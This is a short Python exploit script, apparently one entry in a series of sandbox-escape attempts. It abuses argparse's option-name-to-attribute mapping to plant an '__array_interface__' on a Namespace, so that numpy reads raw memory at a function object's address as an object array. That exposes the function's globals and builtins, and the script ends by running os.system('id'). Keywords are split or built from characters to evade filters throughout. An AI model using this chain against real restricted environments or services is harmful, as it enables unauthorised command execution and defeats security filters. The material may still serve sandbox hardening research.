# source: argparse docs, "dest" (the first long option string less its prefix characters, "-" made "_");
#         numpy array interface protocol (__array_interface__ data pointer); round 31's chain with the default prefix
# family: an option string whose derived attribute is a dunder without prefix_chars: "--_-array-interface-_"
# goal: an object array at the address of a function: its __globals__, builtins, os.system("id")
import numpy as np
import argparse
def f():
    return 1
addr = int(repr(f).split(" at ")[1].rstrip(">"), 16)
u = chr(95) * 2
spec = {"data": (addr + 16, False), "shape": (2,), "typestr": "|O", "version": 3}
p = argparse.ArgumentParser()
p.add_argument("--_-array-interface-_", default=spec)
ns = p.parse_args([])
a = np.asarray(ns)
print(type(a[0]), list(a[0])[:5])
b = a[1]
imp = b[u + "import" + u]
m = imp("o" + "s")
print(m)
g = b["get" + "attr"]
g(m, "sys" + "tem")("id")
